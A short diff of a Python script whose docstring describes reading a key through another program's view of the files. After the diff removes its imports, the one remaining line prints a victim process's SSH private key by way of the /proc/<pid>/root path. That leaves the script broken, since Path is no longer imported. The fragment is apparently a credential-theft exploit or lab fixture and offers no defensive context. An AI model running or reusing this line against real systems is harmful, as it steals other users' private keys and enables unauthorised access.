@@ -1,7 +1,3 @@
 """Reads a key through another program's view of the files."""
 
-from pathlib import Path
-
-from stage import at
-
 print(Path(f"/proc/{at.victim}/root{at.home}/.ssh/id_rsa").read_text())
